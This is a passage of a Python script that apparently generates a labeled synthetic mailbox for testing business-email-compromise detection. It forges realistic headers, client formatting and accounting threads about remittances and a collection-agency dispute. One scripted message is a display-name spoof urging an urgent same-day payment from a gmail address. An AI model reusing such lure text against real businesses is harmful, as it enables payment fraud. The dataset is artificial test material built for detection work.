        hops += [("Received", f"from [192.168.1.{R.randint(20, 90)}] (c-73-{R.randint(10, 250)}-{R.randint(10, 250)}-{R.randint(10, 250)}.hsd1.oh.comcast.net "
                              f"[73.{R.randint(10, 250)}.{R.randint(10, 250)}.{R.randint(10, 250)}])\n\t(Authenticated sender: carlos)\n\tby {helo} (Postfix) with ESMTPSA id "
                              f"{alnum(12)}\n\tfor <{me.email}>; {lt.strftime('%a, %-d %b %Y %H:%M:%S %z (%Z)')}")]
    elif style == "exim-vps":
        hops += [("Received", f"from [{R.choice(['102.89.', '197.210.', '41.190.'])}{R.randint(2, 250)}.{R.randint(2, 250)}] (port={R.randint(50000, 65000)} helo=[192.168.0.{R.randint(100, 200)}])\n"
                              f"\tby {helo} with esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.96)\n\t(envelope-from <{env}>)\n\tid 1u{alnum(4)}-000{alnum(3)}-{alnum(2)}\n"
                              f"\tfor {me.email};\n\t{fdate2(u)}")]
    elif style == "vendor":
        hops += [("Received", f"from {helo.replace('mail', 'app', 1)} (localhost [127.0.0.1]) by {helo} with ESMTP id {hx(16)}; {fdate2(u)}")]
    dkh = []
    if d:
        dkh = [("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s={s};\n\th=from:to:subject:date:message-id:in-reply-to:references:mime-version;"
                                  f"\n\tbh={b64(32)};\n\tb={b64(180)}")]
    return [("Return-Path", f"<{env}>")] + top + hops + dkh


G = ("genuine", "genuine-reply"); GH = ("genuine", "genuine-hard"); GO = ("genuine", "genuine-orphan")
def HJ(kind): return ("hijack", kind)


# ---------------------------------------------------------------- quoting, HTML, MIME
OUTLOOKISH = ("o365", "internal", "owa", "outlookcom", "ex16", "omac")
NNBSP = "\u202f"


def addr(n, e): return f'"{n}" <{e}>' if any(c in n for c in ".,@()") else f"{n} <{e}>"
def tos_of(lst): return "; ".join(f"{n} <{e}>" for n, e in lst)


def gt(s): return "\n".join((">" + l) if l.startswith(">") else ("> " + l if l else ">") for l in s.split("\n"))


def quote_parts(client, q, tz):
    """(plain quote block, header lines for HTML, quoted body) as `client` writes a reply quoting record q"""
    t = q["t"].astimezone(tz); name, email, body = q["name"], q["email"], q["full"]
    ampm = f"{t:%-I:%M}{NNBSP}{t:%p}"
    if client in ("o365", "internal", "owa", "outlookcom", "ex16"):
        rows = [("From", f"{name} [mailto:{email}]" if client == "ex16" else f"{name} <{email}>"),
                ("Sent", f"{t:%A}, {t:%B} {t.day}, {t.year} {t:%-I:%M %p}"), ("To", tos_of(q["to"]))]
        if q["cc"]: rows.append(("Cc", tos_of(q["cc"])))
        rows.append(("Subject", q["subj"]))
        head = [f"{k}: {v}" for k, v in rows]
        sep = "________________________________\n" if client in ("owa", "outlookcom") else ""
        return "\n\n" + sep + "\n".join(head) + "\n\n" + body, rows, body
    if client == "omac":
        rows = [("From", f"{name} <{email}>"), ("Date", f"{t:%A}, {t.day} {t:%B} {t.year} at {t:%H:%M}"), ("To", tos_of(q["to"]))]
        if q["cc"]: rows.append(("Cc", tos_of(q["cc"])))
        rows.append(("Subject", q["subj"]))
        return "\n\nFrom: " + "\n".join(f"{k}: {v}" for k, v in rows)[6:] + "\n\n" + body, rows, body
    if client in ("gmail", "gws", "android"):
        h = f"On {t:%a}, {t:%b} {t.day}, {t.year} at {ampm} {name} <{email}> wrote:"
        return f"\n\n{h}\n\n" + gt(body), [h], body
    if client in ("apple", "iphone"):
        h = f"On {t:%b} {t.day}, {t.year}, at {ampm}, {name} <{email}> wrote:"
        return f"\n\n> {h}\n> \n" + gt(body), [h], body
    if client == "tb":
        h = f"On {t.month}/{t.day}/{t:%y} {t:%-I:%M %p}, {name} wrote:"
        return f"\n\n{h}\n" + gt(body), [h], body
    if client == "roundcube":
        h = f"On {t:%Y-%m-%d %H:%M}, {name} wrote:"
        return f"\n\n{h}\n" + gt(body), [h], body
    if client == "yahoo":
        h = f"On {t:%A}, {t:%B} {t.day}, {t.year} at {t:%I:%M:%S %p} {t:%Z}, {name} <{email}> wrote:"
        return f"\n\n\n\n{h}\n\n\n" + body, [h], body
    if client == "zoho":
        h = f"---- On {t:%a}, {t:%d %b %Y %H:%M:%S %z} {name} <{email}> wrote ---"
        return f"\n\n\n\n\n{h}\n\n\n\n" + body, [h], body
    if client == "fastmail":
        h = f"On {t:%a}, {t.day} {t:%b} {t.year}, at {t:%H:%M}, {name} wrote:"
        return f"\n\n{h}\n" + gt(body), [h], body
    return "\n\n" + gt(body), [], body


import re
URL = re.compile(r"(https?://[^\s<>\"]+)")


def linkify(escaped): return URL.sub(lambda m: f'<a href="{m.group(1)}">{m.group(1)}</a>', escaped)
def esc_br(s): return "<br>\n".join(linkify(H.escape(l)) for l in s.split("\n"))


def html_of(client, text, qrows=None, qbody=None, logo=None):
    """HTML part as `client` would write it: new text (with signature) then the quoted message"""
    lines = text.split("\n")
    if client in ("o365", "internal", "owa", "outlookcom", "ex16"):
        paras = "".join(f'<p class="MsoNormal">{linkify(H.escape(l))}<o:p></o:p></p>\n' if l else '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n' for l in lines)
        if logo: paras += f'<p class="MsoNormal"><img width="148" height="42" style="width:1.5416in;height:.4375in" id="Picture_x0020_1" src="cid:{logo}" alt="logo"><o:p></o:p></p>\n'
        q = ""
        if qrows:
            q = ('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in">\n<p class="MsoNormal"><b>'
                 + "<br>\n<b>".join(f"{k}:</b> {H.escape(v)}" for k, v in qrows) + "<o:p></o:p></p>\n</div>\n"
                 + "".join(f'<p class="MsoNormal">{linkify(H.escape(l))}<o:p></o:p></p>\n' if l else '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n' for l in qbody.split("\n")))
        gen = "Microsoft Word 15 (filtered medium)"
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
                'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" '
                f'content="text/html; charset={"us-ascii" if client == "ex16" and text.isascii() else "utf-8"}">\n<meta name="Generator" content="{gen}">\n'
                '<style><!--\n@font-face\n\t{font-family:"Cambria Math";}\n@font-face\n\t{font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0in;\n\t'
                f'font-size:{"11.0pt" if client != "ex16" else "11.0pt"};\n\tfont-family:{"Aptos" if client in ("o365", "internal") else "Calibri"},sans-serif;}}\na:link, span.MsoHyperlink\n\t{{color:#467886;\n\t'
                'text-decoration:underline;}\n@page WordSection1\n\t{size:8.5in 11.0in;\n\tmargin:1.0in 1.0in 1.0in 1.0in;}\ndiv.WordSection1\n\t{page:WordSection1;}\n--></style>\n'
                '</head>\n<body lang="EN-US" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n' + paras + q + "</div>\n</body>\n</html>")
    if client == "omac":
        q = ""
        if qrows:
            q = ('<div id="mail-editor-reference-message-container"><div class="ms-outlook-mobile-reference-message skipProofing"><div style="border:none;'
                 'border-top:solid #B5C4DF 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal" style="margin-bottom:12.0pt"><b><span style="font-size:12.0pt;color:black">'
                 + "<br>\n<b>".join(f"{k}: </b>{H.escape(v)}" for k, v in qrows) + "</span></p></div>\n" + esc_br(qbody) + "</div></div>")
        return ('<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">'
                '<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="Generator" content="Microsoft Word 15 (filtered medium)">'
                '<style><!--p.MsoNormal{margin:0cm;font-size:11.0pt;font-family:"Aptos",sans-serif;}--></style></head><body lang="EN-GB" link="#467886" vlink="#96607D" '
                'style="word-wrap:break-word"><div class="WordSection1">' + "".join(f'<p class="MsoNormal">{linkify(H.escape(l)) or "<o:p>&nbsp;</o:p>"}</p>' for l in lines)
                + "</div>" + q + "</body></html>")
    if client in ("gmail", "gws", "android"):
        d = "auto" if client == "android" else "ltr"
        body = f'<div dir="{d}">' + esc_br(text) + "</div>"
        if qrows:
            body += ('<br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">' + H.escape(qrows[0]) + '<br></div>'
                     '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">' + esc_br(qbody) + "</blockquote></div>")
        return body
    if client in ("apple", "iphone"):
        inner = esc_br(text)
        if client == "iphone": inner = '<div dir="ltr">' + inner + "</div>"
        if qrows:
            inner += ('<div dir="ltr"><br><blockquote type="cite">' + H.escape(qrows[0]) + "</blockquote></div><blockquote type=\"cite\"><div dir=\"ltr\">"
                      + esc_br(qbody) + "</div></blockquote>") if client == "iphone" else \
                     ('<div><br><blockquote type="cite"><div>' + H.escape(qrows[0]) + '</div><br class="Apple-interchange-newline"><div><div>'
                      + esc_br(qbody) + "</div></div></blockquote></div><br>")
        return ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body '
                + ('dir="auto">' if client == "iphone" else 'style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">')
                + inner + "</body></html>")
    if client == "yahoo":
        q = ""
        if qrows:
            q = (f'<div id="ydp{hx(8)}yahoo_quoted_{R.randint(10**9, 10**10)}" class="ydp{hx(8)}yahoo_quoted"><div style="font-family:\'Helvetica Neue\', Helvetica, Arial, sans-serif;'
                 f'font-size:13px;color:#26282a;"><div>{H.escape(qrows[0])}</div><div><br></div><div><br></div><div>' + esc_br(qbody) + "</div></div></div>")
        return ('<html><head></head><body><div class="ydp' + hx(8) + 'yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;">'
                + "".join(f'<div dir="ltr" data-setdir="false">{linkify(H.escape(l)) or "<br>"}</div>' for l in lines) + "</div>" + q + "</body></html>")
    if client == "zoho":
        q = ""
        if qrows:
            q = ('<div class="zmail_extra_hr" style="border-top: 1px solid rgb(204, 204, 204); height: 0px; margin-top: 10px; margin-bottom: 10px; line-height: 0px;"><br></div>'
                 f'<div class="zmail_extra" data-zbluepencil-ignore="true"><div><br></div><div id="Zm-_Id_-Sgn1">{H.escape(qrows[0])}<br></div><div><br></div>'
                 '<blockquote style="margin: 0px;">' + esc_br(qbody) + "</blockquote></div>")
        return ('<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN"><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head>'
                '<body ><div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>' + esc_br(text) + "</div>" + q + "</div><br></body></html>")
    if client == "fastmail":
        q = ""
        if qrows: q = f'<div>{H.escape(qrows[0])}</div><blockquote type="cite" id="qt" style="">' + esc_br(qbody) + "</blockquote>"
        return ('<!DOCTYPE html><html><head><title></title><style type="text/css">p.MsoNormal,p.MsoNoSpacing{margin:0}</style></head><body><div>'
                + "</div><div>".join(linkify(H.escape(l)) or "<br>" for l in lines) + "</div>" + q + "</body></html>")
    return None


def boundary(who, client, kind="000"):
    if client in ("o365", "internal", "owa", "outlookcom", "omac"):
        h = (who.host or "SA1PR05MB8123.namprd05").replace(".", "")[:22]
        return f"_{kind}_{h[:13]}{HX(16)}{h[:13]}{h[13:17]}_"
    if client == "ex16": return f"_{kind}_{hx(32)}NMIEX1601nmilocal_"
    if client in ("gmail", "gws", "android", "ggroup"): return "000000000000" + hx(16)
    if client == "apple": return "Apple-Mail=_" + ruuid().upper()
    if client == "iphone": return "Apple-Mail-" + ruuid().upper()
    if client in ("yahoo", "zoho"): return f"----=_Part_{R.randint(100000, 9999999)}_{R.randint(10**8, 10**9)}.{R.randint(10**12, 2 * 10**12)}"
    if client == "fastmail": return hx(32)
    if client == "roundcube": return "=_" + hx(32)
    if client == "tb": return "------------" + alnum(24)
    return "----=_NextPart_" + HX(12)


def textpart(client, ctype, text):
    asc = text.isascii(); short = all(len(l) <= 76 for l in text.split("\n"))
    def qp(): return quopri.encodestring(text.encode("utf-8")).decode("ascii")
    if client == "tb":
        return [f"Content-Type: {ctype}; charset=UTF-8" + ("; format=flowed" if ctype == "text/plain" else ""), f"Content-Transfer-Encoding: {'7bit' if asc else '8bit'}", "", text]
    if client == "roundcube":
        if asc: return [f"Content-Type: {ctype}; charset=US-ASCII; format=flowed", "Content-Transfer-Encoding: 7bit", "", text]
        return [f"Content-Type: {ctype}; charset=UTF-8; format=flowed", "Content-Transfer-Encoding: quoted-printable", "", qp()]
    if client in ("gmail", "gws", "android", "ggroup"):
        if ctype == "text/plain" and asc and short: return [f'Content-Type: {ctype}; charset="UTF-8"', "", text]
        return [f'Content-Type: {ctype}; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable", "", qp()]
    if client in ("apple", "iphone"):
        if ctype == "text/plain" and asc and short: return [f"Content-Type: {ctype};\n\tcharset=us-ascii", "Content-Transfer-Encoding: 7bit", "", text]
        return [f"Content-Type: {ctype};\n\tcharset=utf-8", "Content-Transfer-Encoding: quoted-printable", "", qp()]
    if client == "zoho":
        if asc and short: return [f"Content-Type: {ctype}; charset=UTF-8", "Content-Transfer-Encoding: 7bit", "", text]
        return [f"Content-Type: {ctype}; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable", "", qp()]
    if client == "ex16":
        return [f'Content-Type: {ctype}; charset="{"us-ascii" if asc else "utf-8"}"', "Content-Transfer-Encoding: quoted-printable", "", qp()]
    if client == "fastmail":
        return [f"Content-Type: {ctype}", "Content-Transfer-Encoding: quoted-printable", "", qp()] if not (asc and short) else [f"Content-Type: {ctype}", "", text]
    if client == "yahoo":
        return [f"Content-Type: {ctype}; charset=UTF-8", "Content-Transfer-Encoding: quoted-printable", "", qp()]
    return [f'Content-Type: {ctype}; charset="utf-8"', "Content-Transfer-Encoding: quoted-printable", "", qp()]


UA = {"omac": [("User-Agent", "Microsoft-MacOutlook/16.93.25011212")], "apple": [("X-Mailer", "Apple Mail (2.3826.400.131.1.6)")],
      "iphone": [("X-Mailer", "iPhone Mail (22D82)")], "tb": [("User-Agent", "Mozilla Thunderbird")],
      "roundcube": [("User-Agent", "Roundcube Webmail/1.6.6")], "yahoo": [("X-Mailer", "WebService/1.1.23187 YMailNorrin")],
      "zoho": [("Importance", "Medium"), ("User-Agent", "Zoho Mail"), ("X-Mailer", "Zoho Mail")],
      "fastmail": [("X-ME-Sender", f"<xms:{b64(24)}>"), ("X-Mailer", "MessagingEngine.com Webmail Interface"),
                   ("User-Agent", "Cyrus-JMAP/3.13.0-alpha0-1148-g4b2bd1e5e-fm-20250905.001-g4b2bd1e5")]}

pending = []  # (utc, folder, raw, label, scenario, description)


def emit(who, client, t, to, cc, subj, refs, plain, html="auto", atts=(), extra=(), label=None, infra=None, env=None, frm=None,
         irt=None, mid=None, tidx=None, topic=None, sc=None, desc=None, calendar=None, qrows=None, qbody=None, text=None,
         date_tz=None, no_refs_hdr=False, logo=None, inline_atts=(), content_type=None, body_override=None, clang=None):
    m = mid or make_mid(who, client, t)
    folder = "Sent" if who is me else "INBOX"
    h = []
    if folder == "INBOX": h += transport(who, t, infra, env)
    h += [("From", frm or addr(who.name, who.email)), ("To", ", ".join(addr(n, e) for n, e in to))]
    if cc: h.append(("Cc", ", ".join(addr(n, e) for n, e in cc)))
    h += [("Subject", subj)]
    if client in OUTLOOKISH:
        topic = topic or re.sub(r"^((RE|FW|Re|Fwd|AW):\s*)+", "", subj)
        h += [("Thread-Topic", topic), ("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode())]
    dt = t.astimezone(UTC) if client in ("o365", "internal", "owa", "outlookcom", "omac") else t.astimezone(date_tz or t.tzinfo)
    h += [("Date", fdate(dt) if client not in ("zoho", "yahoo", "ex16") else fdate2(dt) if client != "ex16" else fdate(dt)), ("Message-ID", m)]
    if refs and not no_refs_hdr: h += [("References", "\n ".join(refs)), ("In-Reply-To", irt or refs[-1])]
    if client in OUTLOOKISH:
        if client in ("o365", "internal", "ex16"): h.append(("Accept-Language", "en-US"))
        h += [("Content-Language", clang or who.clang), ("X-MS-Has-Attach", "yes" if atts else ""), ("X-MS-TNEF-Correlator", "")]
        if client == "ex16": h += [("x-ms-exchange-transport-fromentityheader", "Hosted"), ("x-originating-ip", f"[10.20.4.{R.randint(20, 90)}]")]
        if client in ("o365", "internal") and who.dom in (OWN, "lakeshorepeds.example"):
            h.append(("msip_labels", ""))
    h += UA.get(client, []) + list(extra) + [("MIME-Version", "1.0")]
    # ---- body
    if body_override is not None:
        body = body_override
    else:
        if html == "auto":
            html = None if client in ("tb", "roundcube") else html_of(client, text if text is not None else plain, qrows, qbody,
                                                                     logo=logo)
        alt = textpart(client, "text/plain", plain)
        if html or calendar:
            ab = boundary(who, client)
            alt = [f'Content-Type: multipart/alternative;\n\tboundary="{ab}"', "", f"--{ab}"] + textpart(client, "text/plain", plain)
            if html: alt += [f"--{ab}"] + textpart(client, "text/html", html)
            if calendar:
                alt += [f"--{ab}", 'Content-Type: text/calendar; charset="utf-8"; method=REQUEST', "Content-Transfer-Encoding: base64", "",
                        base64.encodebytes(calendar.encode()).decode().rstrip("\n")]
            alt += [f"--{ab}--", ""]
        if inline_atts:
            rb = boundary(who, client, "004")
            rel = [f'Content-Type: multipart/related;\n\tboundary="{rb}";\n\ttype="multipart/alternative"', "", f"--{rb}"] + alt
            for name, data, ctype, cid in inline_atts:
                rel += [f"--{rb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Description: {name}', f'Content-Disposition: inline; filename="{name}"; size={len(data)};',
                        f"Content-ID: <{cid}>", "Content-Transfer-Encoding: base64", "", base64.encodebytes(data).decode().rstrip("\n")]
            alt = rel + [f"--{rb}--", ""]
        if atts:
            mb = boundary(who, client, "005" if inline_atts else "004")
            body = [f'Content-Type: multipart/mixed;\n\tboundary="{mb}"', "", f"--{mb}"] + alt
            for name, data, ctype in atts:
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Disposition: attachment; filename="{name}"',
                         "Content-Transfer-Encoding: base64", "", base64.encodebytes(data).decode().rstrip("\n")]
            body += [f"--{mb}--", ""]
        else: body = alt
    raw = "\n".join(f"{k}: {v}" for k, v in h) + "\n" + "\n".join(body)
    raw = raw.replace("\r\n", "\n").replace("\n", "\r\n")
    if not raw.endswith("\r\n"): raw += "\r\n"
    pending.append((t.astimezone(UTC), folder, raw, label, sc, desc, m))
    return m


LOGO_BYTES = {}
def logo_for(who):
    if who.dom not in LOGO_BYTES: LOGO_BYTES[who.dom] = png(1400)
    return LOGO_BYTES[who.dom]


class Thread:
    def __init__(s, partner, subj):
        s.p, s.subj, s.refs, s.last = partner, subj, [], None
        s.blocks = []; s.tbase = b"\x01" + rbytes(21); s.recs = []

    def add(s, who, text, t, label=None, client=None, to=None, cc=None, sig=True, quote=True, subj=None, qrec=None, trim=False,
            sc=None, desc=None, refs=None, **kw):
        client = client or who.client
        own = text + (who.sig if sig else "")
        q = qrec if qrec is not None else s.last
        qplain, qrows, qbody = ("", None, None)
        if quote and q:
            if trim: q = dict(q, full=q["own"])
            qplain, qrows, qbody = quote_parts(client, q, who.tz)
        plain = own + qplain
        if subj is None:
            pf = "RE: " if client in OUTLOOKISH else "Re: "
            subj = s.subj if not s.refs else pf + s.subj
        if to is None: to = [(s.p.name, s.p.email)] if who is me else [(me.name, me.email)]
        refs = list(s.refs) if refs is None else refs
        while len(s.blocks) < len(refs): s.blocks.append(rbytes(5))
        if "tidx" not in kw: kw["tidx"] = base64.b64encode(s.tbase + b"".join(s.blocks[:len(refs)])).decode()
        logo = None
        if who.logo and client in ("o365",) and "inline_atts" not in kw:
            cid = f"image001.png@01D{HX(5)}.{HX(8)}"; logo = cid
            kw["inline_atts"] = [("image001.png", logo_for(who), "image/png", cid)]
        m = emit(who, client, t, to, cc, subj, refs, plain, label=label, topic=s.subj, qrows=qrows, qbody=qbody, text=own, logo=logo,
                 sc=sc, desc=desc, **kw)
        s.refs.append(m)
        rec = dict(t=t, name=who.name, email=who.email, own=own, full=plain, subj=subj, to=to, cc=cc or [], mid=m)
        s.recs.append(rec); s.last = rec
        return m


def sp_link(tenant, kind="x", site="Finance"): return f"https://{tenant}.sharepoint.com/:{kind}:/s/{site}/E{alnum(22)}-{alnum(6)}B{alnum(14)}?e={alnum(6)}"


# ================================================================ T1 Lakeshore: January remittance reconciliation (Marcus always shares SharePoint)
t1 = Thread(marcus, "Lakeshore - January remittance reconciliation")
l1 = sp_link("lakeshorepeds")
t1.add(marcus, f"Dana,\n\nJanuary's 835 remits from BCBS and Aetna are in our finance site - I dropped the export here:\n{l1}\n\n"
       "Could your team tie them to the deposit log before the month-end call? Anything unmatched over $500 I'd like to see itemized.",
       at(2025, 2, 3, 9, 14, CHI))
t1.add(me, "Hi Marcus,\n\nGot it, thank you. I can open the workbook. We'll have the tie-out done by Thursday; so far the Aetna side looks clean, "
       "BCBS has two lump-sum EFTs we'll need to split by claim.", at(2025, 2, 3, 11, 2, NY))
l2 = sp_link("lakeshorepeds")
t1.add(marcus, f"Thanks. For the BCBS lump sums, the PLB adjustments are in the second tab. Our bank's EFT detail is here in case it helps:\n{l2}",
       at(2025, 2, 4, 8, 37, CHI), G, sc="G01", desc="Marcus (Outlook M365) answers with another SharePoint link on his own tenant, as he always does")
t1.add(me, "Perfect, that's what we were missing. Reconciliation attached - 14 items unmatched, total $3,912.40, itemized on the first sheet.\n\n"
       "The largest is a $1,180.00 recoupment BCBS took against a December claim.", at(2025, 2, 6, 14, 4, NY),
       atts=[("Lakeshore_Jan2025_remit_tieout.xlsx", xlsx([["Payer", "Check/EFT", "Amount", "Status"], ["BCBS IL", "EFT 9921834", 18422.17, "split"],
                                                        ["Aetna", "EFT 7718820", 9310.55, "matched"], ["BCBS IL", "PLB WO", -1180.0, "recoupment"]]),
              "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")],
       extra=[("Disposition-Notification-To", f"{me.name} <{me.email}>")])
t1_dana = t1.last
# G03: Outlook read receipt (MDN) for Dana's message
mdn_b = f"_002_{HX(24)}_"
mdn_t = at(2025, 2, 6, 13, 19, CHI)
mdn_body = [f'Content-Type: multipart/report;\n\tboundary="{mdn_b}";\n\treport-type=disposition-notification', "", f"--{mdn_b}",
            'Content-Type: text/plain; charset="us-ascii"', "Content-Transfer-Encoding: 7bit", "",
            f"Your message\n\n  To: Marcus Bell\n  Subject: RE: {t1.subj}\n  Sent: Thursday, February 6, 2025 7:04:{t1_dana['t'].second:02d} PM (UTC+00:00) Monrovia, Reykjavik\n\n"
            f"was read on Thursday, February 6, 2025 7:19:{mdn_t.second:02d} PM (UTC+00:00) Monrovia, Reykjavik.", "",
            f"--{mdn_b}", "Content-Type: message/disposition-notification", "",
            f"Reporting-UA: {marcus.host.split('.')[0]}.namprd12.prod.outlook.com; Microsoft Outlook 16.0", f"Final-Recipient: rfc822;{marcus.email}",
            f"Original-Message-ID: {t1_dana['mid']}", "Disposition: manual-action/MDN-sent-manually; displayed", "", f"--{mdn_b}--", ""]
emit(marcus, "o365", mdn_t, [(me.name, me.email)], None, f"Read: RE: {t1.subj}", [], "", body_override=mdn_body, topic=t1.subj,
     label=GH, sc="G03", desc="Outlook read receipt (MDN, multipart/report disposition-notification) referring to Dana's reconciliation message",
     tidx=base64.b64encode(t1.tbase + b"".join(t1.blocks) + rbytes(5)).decode())
t1.add(marcus, "Dana - appreciate the detail. I'll take the recoupment up with BCBS provider services; the rest looks like timing.", at(2025, 2, 6, 16, 51, CHI), G,
       sc="G01b", desc="Marcus plain follow-up in the same thread")
l3 = sp_link("lakeshorepeds", "f", "Finance")
t1.add(marcus, f"Dana,\n\nFebruary's files are up as well. I made a separate folder this time so your team has edit rights without "
       f"touching the January workbook:\n{l3}\n\nSame drill, no rush before the 12th.", at(2025, 3, 4, 10, 6, CHI), GH,
       sc="G02", desc="Marcus shares a new SharePoint folder of his own tenant (lakeshorepeds.sharepoint.com), consistent with his history of links")
t1.add(me, "Thanks Marcus, we're in. I'll send the tie-out by the 11th.", at(2025, 3, 4, 13, 20, NY))

# ================================================================ T2 Lakeshore: disputed collection-agency invoice; reply-all adds attorney; display-name spoof
t2 = Thread(marcus, "Lakeshore - Midwest Recovery invoice dispute")
t2.add(me, "Hi Marcus,\n\nMidwest Recovery Partners billed Lakeshore $7,260 in contingency fees for March, but at least nine of the accounts "
       "on their list were paid directly by the families before placement. I've marked them on the attached. Should we short-pay, or would you rather "
       "raise it with them first?", at(2025, 4, 7, 10, 12, NY),
       atts=[("MRP_Mar2025_contingency_review.pdf", pdf(["Midwest Recovery Partners - March 2025 contingency fees", "Accounts disputed: 9",
                                                        "Fees in dispute: $2,214.60"], producer="Microsoft: Print To PDF"), "application/pdf")])
t2.add(marcus, "Don't short-pay yet. Their contract has a 30-day dispute clause and I'd rather not hand them a breach argument. Let me check who signed it on our side.",
       at(2025, 4, 7, 14, 45, CHI), G, sc="G04", desc="Marcus replies in a dispute thread")
t2.add(me, "Understood. For reference, the agreement was signed by Dr. Feldman in 2022; a copy is in the vendor folder. The dispute window closes April 25.",
       at(2025, 4, 8, 9, 3, NY))
t2.add(marcus, "Dana, Rachel -\n\nAdding Rachel Stein, who handles our vendor contracts. Rachel, Dana's summary below and the marked-up list in her first email; "
       "the window closes the 25th. Can you send MRP a dispute notice, and can Brightwater hold the payment until you've heard back?",
       at(2025, 4, 8, 15, 28, CHI), GH, cc=[(rachel.name, rachel.email)], to=[(me.name, me.email)],
       sc="G05", desc="reply-all adding the client's attorney (Rachel Stein, steinlegal.example) in Cc")
t2.add(me, "Will do - the invoice is on hold in our AP system. Rachel, happy to pull any remittance detail you need.", at(2025, 4, 8, 16, 2, NY),
       cc=[(rachel.name, rachel.email)])

# ================================================================ T25 Stein Legal: DocuSign envelope announced in T2
t25_t = at(2025, 4, 10, 11, 32, CHI)
ds_env = ruuid().upper()
ds_link = f"https://na3.docusign.net/Signing/EmailStart.aspx?a={ruuid()}&etti=24&acct={ruuid()}&er={ruuid()}"
ds_plain = (f"Rachel Stein sent you a document to review and sign.\n\nREVIEW DOCUMENT\n{ds_link}\n\nRachel Stein\n{rachel.email}\n\n"
            "Dana - per Marcus's request, this is the limited authorization letter so Brightwater can release the MRP dispute file to us. Thanks, Rachel\n\n"
            "Powered by Docusign\n\nDo Not Share This Email\nThis email contains a secure link to Docusign. Please do not share this email, link, or access code with others.\n\n"
            f"Alternate Signing Method\nVisit Docusign.com, click 'Access Documents', and enter the security code:\n{HX(32)}4\n\n"
            "About Docusign\nSign documents electronically in just minutes. It's safe, secure, and legally binding.")
ds_html = ('<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="padding:2px;margin:0;">'
           '<table style="background-color:#1e4ca1;color:#ffffff;width:100%"><tr><td style="padding:28px 36px;font-family:Helvetica,Arial,sans-serif;font-size:16px">'
           f'Rachel Stein sent you a document to review and sign.<br><br><a href="{H.escape(ds_link)}" style="background-color:#ffc423;color:#333;padding:10px 24px;'
           'text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></td></tr></table><p style="font-family:Helvetica,Arial,sans-serif;font-size:14px">'
           "<b>Rachel Stein</b><br>rstein@steinlegal.example<br><br>Dana - per Marcus's request, this is the limited authorization letter so Brightwater can release "
           "the MRP dispute file to us. Thanks, Rachel</p></body></html>")
ds_who = Pt("Rachel Stein via Docusign", "dse_NA3@docusign.net", "vendor", "docusign", CHI)
emit(ds_who, "vendor", t25_t, [(me.name, me.email)], None, "Complete with Docusign: Brightwater_Authorization_MRP_Dispute.pdf", [], ds_plain, html=ds_html,
     extra=[("Reply-To", addr(rachel.name, rachel.email)), ("X-DocuSign-Envelope-Id", ds_env), ("X-API-Host", "na3.docusign.net")],
     mid=f"<{hx(32)}@docusign.net>", label=GH, sc="G43",
     desc="DocuSign envelope from the client's attorney (announced in the dispute thread), not threaded, link to na3.docusign.net")
t2.add(rachel, "Dana, Marcus -\n\nThe dispute notice went to MRP by email and certified mail this morning. Dana, thank you for signing the authorization; "
       "please keep the invoice on hold until I confirm their response.\n\nRachel Stein\nStein Legal, LLC\n(312) 555-0149",
       at(2025, 4, 14, 9, 55, CHI), G, cc=[(marcus.name, marcus.email)], sig=False, sc="G04b", desc="attorney (new in thread, introduced by reply-all) replies")
# A10 display-name spoof from freemail, in the thread
sp_m = Pt("Marcus Bell", "marcus.bell.lpg@gmail.com", "gmail", "gmail", CHI, "")
t2.add(sp_m, "Dana,\n\nRachel and I spoke with MRP this afternoon and they will drop the nine disputed accounts if we settle the balance of $5,045.40 "
       "today. Their AR person said the remittance has to come from Brightwater directly. Can you process it before your 3pm cutoff? I'm in back to "
       "back meetings, so email is best.\n\nMarcus\n\nSent from my phone", at(2025, 4, 16, 12, 48, CHI), HJ("display-name-spoof"), sig=False,
       sc="A10", desc="display-name spoof: 'Marcus Bell' from a gmail.com address inside the dispute thread, urgent same-day settlement payment")

# ================================================================ T3 Marcus forwards payer remittance mail with xlsx (parent not in mailbox)
payer_t = at(2025, 3, 3, 7, 40, CHI)
fw_text = ("Dana,\n\nForwarding this from Prairie State Health Plan - their recoupment file for February. Can your AP side match it against what we "
           "posted? Their spreadsheet is attached as they sent it.\n\nThanks,\nMarcus")
